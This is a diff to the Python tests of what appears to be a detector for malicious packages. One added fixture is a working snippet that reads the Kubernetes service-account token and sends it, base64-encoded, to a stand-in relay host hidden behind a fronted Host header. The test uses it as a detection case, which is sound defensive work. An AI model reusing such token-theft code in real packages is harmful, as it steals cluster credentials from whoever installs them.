@@ -43,7 +43,8 @@ def test_host_data_to_interaction_server_at_install():
     res = run_engine({"pkg/setup.py": src})
     assert pairs(res, DATA) == {(DATA, 10)}
     assert pairs(res, BAD) == {(BAD, 10)}
-    assert pairs(res, ACCESS) == set()  # reported as exfiltration, not as a plain connection
+    # an interaction (OAST) host is reported as such even when data goes there too
+    assert pairs(res, ACCESS) == {(ACCESS, 10)}
     assert conf(res, DATA)[10] >= 0.8
 
 
@@ -175,3 +176,50 @@ def test_shell_upload_with_curl():
     res = run_engine({"pkg/setup.py": src})
     assert pairs(res, FILE) == {(FILE, 2)}
     assert pairs(res, BAD) == {(BAD, 2)}
+
+
+def test_service_account_token_sent_with_a_fronted_host_header_at_import():
+    # modelled on a dependency-confusion probe: the token goes to a well-known host, but the
+    # Host header routes the request elsewhere (domain fronting)
+    src = '''\
+        from urllib import request
+        import base64, json, os
+
+        data = [x for x in open("/var/run/secrets/kubernetes.io/serviceaccount/token", "r")]
+        serialised = "".join(data)
+        data = {"host": serialised, "d": os.path.expanduser("~")}
+        data = json.dumps(data)
+        encoded = str(base64.urlsafe_b64encode(data.encode("utf-8")), "utf-8")
+        r = request.Request("https://pypi.org/reqs?d=" + encoded,
+                            headers={"Host": "relay.example.invalid"})
+        k = request.urlopen(r)
+        '''
+    res = run_engine({"pkg/src/example_package/__init__.py": src})
+    assert pairs(res, DATA) == {(DATA, 9), (DATA, 11)}
+    assert min(conf(res, DATA).values()) >= 0.8
+    assert pairs(res, "code_read_credentials") == {("code_read_credentials", 4)}
+    assert conf(res, "code_read_credentials")[4] >= 0.7
+    assert pairs(res, ACCESS) == {(ACCESS, 11)}  # the fronted request itself
+
+
+def test_cloud_sdk_naming_workload_credentials_is_low():
+    # workload-identity helpers of cloud SDKs name the token path and metadata endpoints and
+    # send the token to their own service when called
+    src = '''\
+        import requests
+        SERVICE_TOKEN_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+
+        def gcp_token(audience):
+            url = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/identity"
+            return requests.get(url, params={"audience": audience}).text
+
+        def k8s_token(path=SERVICE_TOKEN_FILENAME):
+            with open(path) as fh:
+                return fh.read()
+
+        def exchange(token):
+            return requests.post("https://auth.example.com/token", data={"t": k8s_token()})
+        '''
+    res = run_engine({"sdk/auth/workload.py": src})
+    assert all(c < 0.5 for c in conf(res, "code_read_credentials").values())
+    assert all(s.confidence < 0.5 for s in res.signals)
